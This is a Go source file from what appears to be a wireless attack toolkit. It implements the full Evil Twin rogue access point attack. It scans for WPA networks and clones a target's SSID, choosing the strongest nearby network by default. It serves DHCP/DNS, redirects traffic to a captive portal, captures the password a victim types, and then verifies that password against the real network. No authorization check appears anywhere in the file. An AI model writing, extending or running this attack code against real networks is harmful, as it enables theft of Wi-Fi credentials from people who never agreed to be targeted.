// Package eviltwin composes the interface controller, network scanner, AP
// manager, DHCP/DNS manager, traffic redirector, captive portal and
// credential verifier into the six-phase rogue-AP attack, the Go
// counterpart of evil_twin/main.py's EvilTwinAttack class. Every phase
// pushes its undo onto a LIFO teardown stack that always runs, on every
// exit path, the same way the original's cleanup() is reached through a
// try/finally regardless of which phase failed.
package eviltwin

import (
	"context"
	"errors"
	"fmt"
	"sort"
	"time"

	"github.com/nexusdevtools/capgate/internal/core/domain"
	"github.com/nexusdevtools/capgate/internal/core/ports"
	"github.com/nexusdevtools/capgate/internal/core/runctx"
	"github.com/nexusdevtools/capgate/internal/logging"
	"github.com/nexusdevtools/capgate/internal/telemetry"
)

// Phase names, matching the state machine's labels one for one so event log
// entries and the PDF report read the same phase identifiers throughout.
const (
	PhaseInterfaceSelect = "S0"
	PhaseTargetScan      = "S1"
	PhaseInfraUp         = "S2"
	PhaseLure            = "S3"
	PhaseVerify          = "S4"
	PhaseTeardown        = "T"
)

// Options configures one Evil Twin run. Zero values fall back to the
// defaults noted in each field's comment.
type Options struct {
	APInterface      string // CLI-specified AP interface name; empty triggers auto-selection
	DeauthInterface  string
	VerifyInterface  string
	InternetInterface string

	TargetSSID    string
	TargetBSSID   string
	TargetChannel int

	AutoSelect bool

	GatewayIP      string // default 10.0.0.1
	DHCPRangeStart string // default 10.0.0.10
	DHCPRangeEnd   string // default 10.0.0.250
	PortalPort     int    // default 80

	ScanDuration   time.Duration // default 15s
	SecurityFilter string        // default "WPA"
	LureTimeout    time.Duration // default 300s
}

func (o *Options) applyDefaults() {
	if o.GatewayIP == "" {
		o.GatewayIP = "10.0.0.1"
	}
	if o.DHCPRangeStart == "" {
		o.DHCPRangeStart = "10.0.0.10"
	}
	if o.DHCPRangeEnd == "" {
		o.DHCPRangeEnd = "10.0.0.250"
	}
	if o.PortalPort == 0 {
		o.PortalPort = 80
	}
	if o.ScanDuration == 0 {
		o.ScanDuration = 15 * time.Second
	}
	if o.SecurityFilter == "" {
		o.SecurityFilter = "WPA"
	}
	if o.LureTimeout == 0 {
		o.LureTimeout = 300 * time.Second
	}
}

// Result is the outcome of one Evil Twin run.
type Result struct {
	FinalPhase       string
	CredentialsCaptured bool
	SSID             string
	Password         string
	Verified         bool
	Err              error
}

// Workflow composes the adapters behind the Evil Twin ports; it holds no
// host state itself beyond what a single Run call needs.
type Workflow struct {
	Interfaces ports.InterfaceController
	Scanner    ports.NetworkScanner
	AP         ports.APManager
	DHCPDNS    ports.DHCPDNSManager
	Redirector ports.TrafficRedirector
	Portal     ports.WebServerManager
	Verifier   ports.CredentialVerifier
	Events     ports.EventLog

	log *logging.Logger
}

// New returns a Workflow wired to the given adapters.
func New(interfaces ports.InterfaceController, scanner ports.NetworkScanner, ap ports.APManager, dhcpdns ports.DHCPDNSManager, redirector ports.TrafficRedirector, portal ports.WebServerManager, verifier ports.CredentialVerifier, events ports.EventLog) *Workflow {
	return &Workflow{
		Interfaces: interfaces,
		Scanner:    scanner,
		AP:         ap,
		DHCPDNS:    dhcpdns,
		Redirector: redirector,
		Portal:     portal,
		Verifier:   verifier,
		Events:     events,
		log:        logging.Component("eviltwin"),
	}
}

// teardownStep is one undo action, pushed in setup order and run in reverse.
type teardownStep struct {
	name string
	fn   func(ctx context.Context) error
}

// Run drives the full S0-through-T state machine. It always returns a
// Result; Result.Err is set only for abort conditions at S0/S1/S2, never
// for a Lure timeout (that is a normal, documented outcome, not an error).
func (w *Workflow) Run(ctx context.Context, rc *runctx.RunContext, opts Options) Result {
	opts.applyDefaults()
	var stack []teardownStep
	result := Result{FinalPhase: PhaseInterfaceSelect}

	// Teardown always runs, LIFO, regardless of which phase we reach or how
	// we got here (success, abort, or a canceled ctx). Individual step
	// failures are logged and never escalate: the invariant is "net-zero
	// relative to pre-run state", not "every step must succeed".
	defer func() {
		teardownCtx := context.Background()
		for i := len(stack) - 1; i >= 0; i-- {
			step := stack[i]
			if err := step.fn(teardownCtx); err != nil {
				w.log.Warn("teardown step %q failed: %v", step.name, err)
				telemetry.TeardownFailures.WithLabelValues("eviltwin", step.name).Inc()
				w.emit(teardownCtx, rc, domain.EventKindTeardownFailed, step.name, map[string]any{"error": err.Error()})
			} else {
				w.emit(teardownCtx, rc, domain.EventKindTeardownStep, step.name, nil)
			}
		}
		result.FinalPhase = PhaseTeardown
		if result.Err != nil {
			w.emit(teardownCtx, rc, domain.EventKindWorkflowFailed, "eviltwin", map[string]any{"error": result.Err.Error()})
		} else {
			w.emit(teardownCtx, rc, domain.EventKindWorkflowComplete, "eviltwin", map[string]any{"verified": result.Verified})
		}
	}()

	w.enterPhase(ctx, rc, PhaseInterfaceSelect)
	apIface, deauthIface, verifyIface, internetIface, err := w.selectInterfaces(ctx, rc, opts)
	if err != nil {
		result.Err = fmt.Errorf("%w: %v", domain.ErrWorkflowAborted, err)
		return result
	}
	stack = append(stack, teardownStep{"restore_ap_interface", func(ctx context.Context) error {
		return w.restoreAPInterface(ctx, apIface)
	}})
	if deauthIface != apIface {
		origDeauthIface := deauthIface
		stack = append(stack, teardownStep{"restore_deauth_interface", func(ctx context.Context) error {
			return w.Interfaces.RestoreInterfaceState(ctx, origDeauthIface)
		}})
	}

	w.enterPhase(ctx, rc, PhaseTargetScan)
	bssid, ssid, channel, monitorDeauthIface, err := w.scanForTarget(ctx, deauthIface, opts)
	if err != nil {
		result.Err = fmt.Errorf("%w: %v", domain.ErrWorkflowAborted, err)
		return result
	}
	deauthIface = monitorDeauthIface
	result.SSID = ssid

	w.enterPhase(ctx, rc, PhaseInfraUp)
	if err := w.bringUpInfrastructure(ctx, apIface, internetIface, ssid, channel, opts); err != nil {
		result.Err = fmt.Errorf("%w: %v", domain.ErrWorkflowAborted, err)
		return result
	}
	stack = append(stack, teardownStep{"stop_portal", func(ctx context.Context) error { return w.Portal.Stop(ctx) }})
	stack = append(stack, teardownStep{"clear_redirection_rules", func(ctx context.Context) error { return w.Redirector.ClearRedirectionRules(ctx) }})
	stack = append(stack, teardownStep{"stop_dhcp_dns", func(ctx context.Context) error { return w.DHCPDNS.StopDHCPDNS(ctx) }})
	stack = append(stack, teardownStep{"stop_ap", func(ctx context.Context) error { return w.AP.StopAP(ctx, apIface) }})

	events, err := w.Portal.Start(ctx, opts.GatewayIP, opts.PortalPort, ssid)
	if err != nil {
		result.Err = fmt.Errorf("%w: start portal: %v", domain.ErrWorkflowAborted, err)
		return result
	}

	w.enterPhase(ctx, rc, PhaseLure)
	password, captured := w.waitForCredentials(ctx, events, opts.LureTimeout)
	result.CredentialsCaptured = captured
	result.Password = password
	if captured {
		telemetry.CredentialsCaptured.WithLabelValues("eviltwin").Inc()
	}

	w.enterPhase(ctx, rc, PhaseVerify)
	if captured && verifyIface != "" {
		ok, err := w.Verifier.VerifyPassword(ctx, verifyIface, ssid, password)
		if err != nil {
			w.log.Warn("credential verification errored: %v", err)
		}
		result.Verified = ok
		outcome := "failed"
		if ok {
			outcome = "verified"
		}
		telemetry.CredentialVerifications.WithLabelValues("eviltwin", outcome).Inc()
		w.emit(ctx, rc, domain.EventKindCredentialVerified, "eviltwin", map[string]any{"verified": ok, "bssid": bssid})
	}

	return result
}

// selectInterfaces mirrors _select_interfaces: CLI-specified roles take
// priority, auto-selection falls back to the first unused capable interface,
// and the AP interface may be reused for deauth only as a last resort when
// the host has a single radio.
func (w *Workflow) selectInterfaces(ctx context.Context, rc *runctx.RunContext, opts Options) (ap, deauth, verify, internet string, err error) {
	ifaces := rc.State().GetInterfaces()
	wireless := make([]domain.Interface, 0, len(ifaces))
	for _, i := range ifaces {
		if i.IsWireless && i.IsUp {
			wireless = append(wireless, i)
		}
	}
	sort.Slice(wireless, func(a, b int) bool { return wireless[a].Name < wireless[b].Name })
	if len(wireless) == 0 {
		return "", "", "", "", errors.New("no active wireless interfaces found")
	}

	used := map[string]bool{}
	pick := func(want string, capable func(domain.Interface) bool) string {
		if want != "" {
			for _, i := range wireless {
				if i.Name == want && capable(i) && !used[i.Name] {
					return i.Name
				}
			}
		}
		if !opts.AutoSelect && want != "" {
			return ""
		}
		for _, i := range wireless {
			if capable(i) && !used[i.Name] {
				return i.Name
			}
		}
		return ""
	}

	ap = pick(opts.APInterface, func(i domain.Interface) bool { return i.SupportsAP })
	if ap == "" {
		return "", "", "", "", domain.ErrInterfaceNotFound
	}
	used[ap] = true

	deauth = pick(opts.DeauthInterface, func(i domain.Interface) bool { return i.SupportsMonitor })
	if deauth == "" {
		for _, i := range wireless {
			if i.Name == ap && i.SupportsMonitor {
				deauth = ap
				w.log.Warn("reusing AP interface %s for deauth, single-radio fallback", ap)
			}
		}
	}
	if deauth == "" {
		return "", "", "", "", domain.ErrInterfaceNotFound
	}
	used[deauth] = true

	verify = pick(opts.VerifyInterface, func(i domain.Interface) bool { return i.SupportsManaged })
	if verify == "" {
		for _, i := range wireless {
			if i.SupportsManaged {
				verify = i.Name
				w.log.Warn("no unique verification interface, reusing %s", verify)
				break
			}
		}
	}

	internet = opts.InternetInterface
	if internet == "" && opts.AutoSelect {
		for _, i := range ifaces {
			if !i.IsWireless && i.IsUp && i.IPv4CIDR != "" {
				internet = i.Name
				break
			}
		}
	}

	if err := w.Interfaces.AssignGatewayIP(ctx, ap, opts.GatewayIP+"/24"); err != nil {
		return "", "", "", "", fmt.Errorf("assign gateway ip to %s: %w", ap, err)
	}

	return ap, deauth, verify, internet, nil
}

func (w *Workflow) scanForTarget(ctx context.Context, deauthIface string, opts Options) (bssid, ssid string, channel int, monitorIface string, err error) {
	monitorIface = deauthIface
	ifaceMode, err := w.Interfaces.EnableMonitorMode(ctx, deauthIface)
	if err == nil && ifaceMode != "" {
		monitorIface = ifaceMode
	}

	result, err := w.Scanner.Scan(ctx, monitorIface, int(opts.ScanDuration.Seconds()), opts.SecurityFilter)
	if err != nil {
		return "", "", 0, monitorIface, fmt.Errorf("scan: %w", err)
	}
	if len(result.AccessPoints) == 0 {
		return "", "", 0, monitorIface, errors.New("no networks found during scan")
	}

	if opts.TargetBSSID != "" || opts.TargetSSID != "" {
		for _, candidate := range result.AccessPoints {
			bssidMatch := opts.TargetBSSID == "" || candidate.BSSID == opts.TargetBSSID
			ssidMatch := opts.TargetSSID == "" || candidate.ESSID == opts.TargetSSID
			channelMatch := opts.TargetChannel == 0 || candidate.Channel == opts.TargetChannel
			if bssidMatch && ssidMatch && channelMatch {
				return candidate.BSSID, candidate.ESSID, candidate.Channel, monitorIface, nil
			}
		}
	}

	sort.Slice(result.AccessPoints, func(a, b int) bool { return result.AccessPoints[a].Power > result.AccessPoints[b].Power })
	top := result.AccessPoints[0]
	return top.BSSID, top.ESSID, top.Channel, monitorIface, nil
}

func (w *Workflow) bringUpInfrastructure(ctx context.Context, apIface, internetIface, ssid string, channel int, opts Options) error {
	if err := w.AP.StartAP(ctx, apIface, ssid, fmt.Sprintf("%d", channel), ""); err != nil {
		return fmt.Errorf("start ap: %w", err)
	}
	if err := w.DHCPDNS.StartDHCPDNS(ctx, apIface, opts.GatewayIP, opts.DHCPRangeStart, opts.DHCPRangeEnd); err != nil {
		return fmt.Errorf("start dhcp/dns: %w", err)
	}
	if err := w.Redirector.EnableIPForwarding(ctx); err != nil {
		return fmt.Errorf("enable ip forwarding: %w", err)
	}
	wan := internetIface
	if wan == "" {
		wan = apIface
		w.log.Warn("no internet-facing interface detected; traffic redirection will lack NAT")
	}
	if err := w.Redirector.SetupRedirectionRules(ctx, apIface, wan, opts.GatewayIP, opts.PortalPort); err != nil {
		return fmt.Errorf("setup redirection rules: %w", err)
	}
	return nil
}

// waitForCredentials blocks on the portal's event channel up to timeout,
// the Go equivalent of credentials_captured_event.wait(timeout=...).
func (w *Workflow) waitForCredentials(ctx context.Context, events <-chan domain.Event, timeout time.Duration) (password string, captured bool) {
	timer := time.NewTimer(timeout)
	defer timer.Stop()
	select {
	case ev, ok := <-events:
		if !ok {
			return "", false
		}
		password, _ = ev.Fields["password"].(string)
		return password, true
	case <-timer.C:
		return "", false
	case <-ctx.Done():
		return "", false
	}
}

func (w *Workflow) restoreAPInterface(ctx context.Context, iface string) error {
	return w.Interfaces.RestoreInterfaceState(ctx, iface)
}

func (w *Workflow) enterPhase(ctx context.Context, rc *runctx.RunContext, phase string) {
	telemetry.WorkflowPhaseTransitions.WithLabelValues("eviltwin", phase).Inc()
	w.emit(ctx, rc, domain.EventKindPhaseEnter, phase, nil)
}

func (w *Workflow) emit(ctx context.Context, rc *runctx.RunContext, kind, message string, fields map[string]any) {
	if w.Events == nil {
		return
	}
	ev := domain.Event{RunID: rc.ID(), Time: time.Now(), Component: "eviltwin", Kind: kind, Message: message, Fields: fields}
	_ = w.Events.Append(ctx, ev)
}
